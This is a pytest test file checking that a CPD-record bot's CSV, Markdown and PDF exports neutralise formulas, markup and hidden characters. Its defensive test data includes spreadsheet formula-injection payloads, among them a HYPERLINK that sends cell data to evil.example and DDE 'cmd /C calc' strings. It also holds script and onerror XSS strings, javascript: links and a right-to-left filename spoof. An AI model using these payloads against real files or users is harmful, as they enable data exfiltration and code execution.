"""Exports carry no formulas or markup (issue 12, item 4).

A title or reflection that a spreadsheet would run as a formula reaches the CSV as text
(the OWASP way: a leading single quote) and `cpdbot import` reads it back as written; the
Markdown shows what was typed instead of running it as markup; control, bidirectional and
zero-width characters are not printed in any export.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from pypdf import PdfReader

from bot.core.assess import assess
from bot.core.export import read_csv, read_json, to_csv, to_json
from bot.core.model import EntryView, IdentityKey, ReflectionView
from bot.core.record import Record
from bot.core.sanitize import markdown_escape, spreadsheet_safe, spreadsheet_value
from bot.core.schemes import Scheme
from bot.services import records
from bot.services.engine import Engine
from bot.services.printable import to_markdown, to_pdf
from storage.db import Database
from tests.conftest import Clock
from tests.scheduling import tick, user
from tests.services.test_calendar_flow import (
    ICS,
    WORKSHOP_END,
    FeedServer,
    Route,
    connect,
    setup,
    show,
)
from tests.services.test_calendar_flow import feeds as feeds  # the fixture
from tests.services.test_report import iet_record

TODAY = date(2026, 12, 1)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "   =1+1",
    "\t=1+1",
    "'=1+1",  # an apostrophe typed by the person, before a formula
    "''@x",
]
# What a spreadsheet runs: a cell whose first non-blank character is one of these.
RUNS = ("=", "+", "-", "@", "\t", "\r")
UNSAFE = ("\x1b", "\x07", "\u202e", "\u200b", "\u2066", "\x00")


def entry(number: int, title: str, *answers: str, category: str = "training_courses") -> EntryView:
    reflections = tuple(
        ReflectionView(qid, f"Question {qid}?", a)
        for qid, a in zip(("key_points", "change"), answers, strict=False)
    )
    return EntryView(
        number, title, date(2026, 10, number), 60, category, None, "chat", False, reflections
    )


def record_of(schemes: dict[str, Scheme], *entries: EntryView) -> Record:
    rec = iet_record(schemes)
    return Record(rec.person, rec.scheme, rec.start, rec.end, entries)


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(RUNS) or cell.startswith(RUNS)


# ---------------------------------------------------------------- CSV


def test_the_spreadsheet_prefix_is_applied_where_needed_and_undone_exactly() -> None:
    for text in [*FORMULAS, "\r=1", " @x", "\n-1"]:
        safe = spreadsheet_safe(text)
        assert safe.startswith("'") and not runs_as_formula(safe), text
        assert spreadsheet_value(safe) == text
    for text in ["Webinar", "1.5", "", "'Tis the season", "O'Brien's talk", "a=b", "'"]:
        assert spreadsheet_safe(text) == text and spreadsheet_value(text) == text


def test_csv_cells_never_start_a_formula_and_read_back_as_written(
    schemes: dict[str, Scheme],
) -> None:
    titles = [t for t in FORMULAS if "\t" not in t]  # a title is one line: no tab
    rec = record_of(
        schemes,
        *(entry(n, title, FORMULAS[-n], "\t-note") for n, title in enumerate(titles, 1)),
    )
    data = to_csv(rec)
    assert all(not runs_as_formula(cell) for cell in cells(data))
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells(data)
    assert read_csv(data, rec.scheme) == list(rec.entries)


def test_formulas_logged_via_a_calendar_are_text_in_the_csv_and_markdown(
    db: Database, schemes: dict[str, Scheme], feeds: FeedServer, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1\\,"Workshop") <script>x</script>'
    body = (ICS / "google_public_feed_machbar.ics").read_bytes()
    feeds.routes["/c.ics"] = Route(
        body.replace(b"SUMMARY:Workshop DiReBio", f"SUMMARY:{hostile}".encode())
    )
    clock, engine, jobs = setup(db, schemes, WORKSHOP_END - timedelta(days=2))
    chat = user(engine, "ann")
    connect(chat, feeds.base + "/c.ics")
    (prompt,) = [m for m in tick(jobs, clock, WORKSHOP_END + timedelta(minutes=5))]
    show(chat, prompt)
    chat.press("Log it")
    chat.press("Change category")
    chat.press("Training courses")
    chat.say("skip")
    chat.say("skip")
    assert "Saved #1" in chat.text
    report = records.report_for(engine, IdentityKey("console", "ann"), 2019)
    assert report is not None
    title = report.record.entries[0].title
    assert title.startswith("=HYPERLINK(")
    _, data, _ = records.render(report, "csv")
    assert not any(runs_as_formula(c) for c in cells(data))
    assert "'" + title in cells(data)
    _, md, _ = records.render(report, "md")
    shown = rendered(md)
    assert "<script" not in shown.html and title in shown.text
    # Re-imported elsewhere, the title is the one the calendar gave.
    elsewhere = Database(f"sqlite:///{tmp_path / 'back.db'}")
    elsewhere.create_all()
    key = IdentityKey("console", "ann")
    added = records.import_file(elsewhere, key, data, schemes, now=clock(), scheme_id="iet")
    assert added == (1, 0)
    back = Engine(elsewhere, schemes, Clock(clock())).record(key, 2019)
    assert back is not None and back.entries[0].title == title
    elsewhere.dispose()


@pytest.mark.parametrize("kind", ["csv", "json"])
def test_exports_hold_no_control_bidi_or_zero_width_characters(
    kind: str, schemes: dict[str, Scheme]
) -> None:
    rec = record_of(
        schemes, entry(1, "Safety\x1b[31m \u202etxt.exe\u200b talk\x07", "Key\u2066 point\x00")
    )
    data = (to_csv if kind == "csv" else to_json)(rec).decode("utf-8-sig")
    assert not any(ch in data for ch in UNSAFE)
    assert "\\u001b" not in data and "\\u0000" not in data
    back = read_csv(data.encode(), rec.scheme) if kind == "csv" else read_json(data.encode())
    assert back[0].title == "Safety txt.exe talk"
    assert back[0].reflections[0].answer == "Key point"


# ---------------------------------------------------------------- Markdown and PDF


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


class Shown:
    """A Markdown file as a CommonMark viewer shows it: its HTML and its visible text."""

    def __init__(self, md: bytes) -> None:
        self.html = MarkdownIt("commonmark").enable("table").render(md.decode("utf-8"))
        parser = _Text()
        parser.feed(self.html)
        self.text = " ".join("".join(parser.parts).split())


def rendered(md: bytes) -> Shown:
    return Shown(md)


MARKUP = [
    "<script>alert(1)</script> talk",
    "![pixel](http://evil.example/track.png) seminar",
    "[click me](http://evil.example/login) webinar",
    "[x](javascript:alert(1)) <javascript:alert(2)> course",
    '<img src="http://evil.example/a.png" onerror="alert(1)">',
    "Q&amp;A on **bold** _claims_ `code` ~~gone~~ C# #",
]


# What a viewer would make of the titles and answers above, were they not escaped.
RUN_AS_MARKUP: tuple[str, ...] = (
    "<script",
    "<img",
    "<a ",
    "<blockquote",
    "<ol",
    "<h2>Not",
    "<em>claims",
)
RUN_AS_MARKUP += ("<strong>bold", "<code>", "<del>")


def test_markdown_shows_markup_as_text(schemes: dict[str, Scheme]) -> None:
    answers = ["# Not a heading", "=====", "- not a list", "> not a quote", "1. not a list"]
    rec = record_of(
        schemes,
        *(entry(n, t, answers[n % len(answers)], "+ plus") for n, t in enumerate(MARKUP, 1)),
    )
    md = to_markdown(rec, assess(rec, today=TODAY), None)
    shown = rendered(md)
    for tag in RUN_AS_MARKUP:
        assert tag not in shown.html, tag
    assert shown.html.count("<h1>") == 1  # the record's own title only
    assert shown.html.count("<ul>") == 1 + len(MARKUP)  # the summary, each reflection list
    for title in MARKUP:
        assert " ".join(title.split()) in shown.text, title
    for answer in answers:
        assert answer in shown.text
    assert "javascript:" not in md.decode("utf-8")  # no scheme a viewer could link


def test_markdown_escape_leaves_plain_words_alone() -> None:
    assert markdown_escape("IET webinar: arc-flash – risk 🎉 (1.5 h)") == (
        "IET webinar: arc-flash – risk 🎉 (1.5 h)"
    )
    assert markdown_escape("a | b") == "a \\| b"


def test_markdown_and_pdf_print_no_control_bidi_or_zero_width_characters(
    schemes: dict[str, Scheme],
) -> None:
    rec = record_of(
        schemes, entry(1, "Safety\x1b[31m \u202etxt.exe\u200b talk\x07", "Key\u2066 point\x00")
    )
    assessment = assess(rec, today=TODAY)
    md = to_markdown(rec, assessment, None).decode("utf-8")
    assert not any(ch in md for ch in UNSAFE)
    assert "Safety txt.exe talk" in md
    pdf = PdfReader(io.BytesIO(to_pdf(rec, assessment, None, None)))
    text = "".join(page.extract_text() for page in pdf.pages)
    assert not any(ch in text for ch in UNSAFE)
    assert "Safety txt.exe talk" in text and "Key point" in text
